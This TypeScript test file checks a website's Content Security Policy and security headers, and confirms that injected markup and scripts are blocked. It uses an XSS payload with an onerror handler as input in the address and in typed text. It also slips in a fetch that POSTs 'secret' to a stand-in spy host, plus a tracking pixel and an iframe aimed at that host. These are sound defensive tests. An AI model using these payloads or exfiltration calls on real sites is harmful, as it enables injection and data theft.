import { expect, test } from "./test.ts";
import { openAwake } from "../awake.ts";
import { documentPaths, logPagePaths, logSamples, pagePaths } from "./paths.ts";
import { violationsOf } from "./violations.ts";
import { addressOf, tryEverything } from "./visit.ts";
import { untilIdle } from "./idle.ts";

for (const path of [...pagePaths, ...logPagePaths, ...documentPaths]) {
  test(`${path} is served under the whole policy`, async ({ request }) => {
    const response = await request.get(addressOf(path));
    const headers = response.headers();
    // A page of a folder carries its policy in its HTML, but for who may frame it.
    const written = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(await response.text())?.[1];
    const policy = [headers["content-security-policy"], written].join("; ");
    expect(policy).not.toMatch(/unsafe|https?:|\*/);
    for (const directive of [
      "default-src 'none'",
      "script-src 'self'",
      "style-src 'self' 'sha256-",
      "img-src 'self' data: blob:",
      "object-src 'none'",
      "base-uri 'none'",
      "form-action 'self'",
      "frame-ancestors 'none'",
      "require-trusted-types-for 'script'",
    ]) {
      expect(policy).toContain(directive);
    }
    expect(headers).toMatchObject({
      "strict-transport-security": "max-age=63072000; includeSubDomains",
      "x-content-type-options": "nosniff",
      "x-frame-options": "DENY",
      "referrer-policy": "strict-origin-when-cross-origin",
      "cross-origin-opener-policy": "same-origin",
      "cross-origin-resource-policy": "same-origin",
    });
    expect(headers["permissions-policy"]).toContain("geolocation=()");
  });
}

for (const path of [...pagePaths, ...logSamples]) {
  test(`${path}: nothing typed, and nothing in the address, becomes part of the page`, async ({ page }) => {
    const planted = `"><img src=x class=planted onerror="document.body.dataset.planted=1"><b class=planted>`;
    for (const hash of [planted, `defi=${planted}`, encodeURIComponent(planted), "%E0%A4%A"]) {
      await openAwake(page, `${addressOf(path)}#${hash}`);
      await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
      await expect(page.locator(".planted, [data-planted]")).toHaveCount(0);
    }
    await tryEverything(page, planted);
    await untilIdle(page);
    await expect(page.locator(".planted, [data-planted]")).toHaveCount(0);
  });
}

test("from page to page, nothing that the policy refuses either", async ({ page }) => {
  const violations = await violationsOf(page);
  await openAwake(page, "/");
  for (const path of pagePaths.filter((path) => path !== "/404" && path !== "/")) {
    await page.evaluate((href) => {
      const link = Object.assign(document.createElement("a"), { href });
      document.body.append(link);
      link.click();
      link.remove();
    }, path);
    await expect(page).toHaveURL(path);
    // The page that was asked for, not the one that it takes the place of.
    await expect(page.getByRole("heading", { level: 1 })).toBeFocused();
  }
  expect(violations).toEqual([]);
});

test("what somebody would slip into a page is not run, not shown, not sent", async ({ page }) => {
  const violations = await violationsOf(page);
  await openAwake(page, "/");
  const refused = await page.evaluate(async () => {
    const throws = (action: () => void) => {
      try {
        action();
        return false;
      } catch {
        return true;
      }
    };
    const slip = (tag: string, properties: object) =>
      document.body.append(Object.assign(document.createElement(tag), properties));
    slip("style", { textContent: "body { display: none }" });
    slip("img", { src: "https://espion.example/pixel.png" });
    slip("iframe", { src: "https://espion.example/" });
    const sent = await fetch("https://espion.example/", { method: "POST", body: "secret" }).then(
      () => true,
      () => false,
    );
    return {
      text: throws(() => slip("script", { textContent: "document.body.dataset.slipped = 1" })),
      html: throws(() => (document.body.innerHTML = "<b>")),
      sent,
      shown: getComputedStyle(document.body).display !== "none",
      ran: "slipped" in document.body.dataset,
    };
  });
  expect(refused).toEqual({ text: true, html: true, sent: false, shown: true, ran: false });
  for (const directive of ["style-src", "img-src", "frame-src", "connect-src", "require-trusted-types-for"]) {
    await expect
      .poll(() => violations.some((violation) => violation.includes(directive)), directive)
      .toBe(true);
  }
});

test("the page of unknown addresses carries its policy with it", async ({ request }) => {
  const response = await request.get("/nulle-part");
  expect(await response.text()).toContain('<meta http-equiv="Content-Security-Policy" content="default-src');
  expect(response.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
});
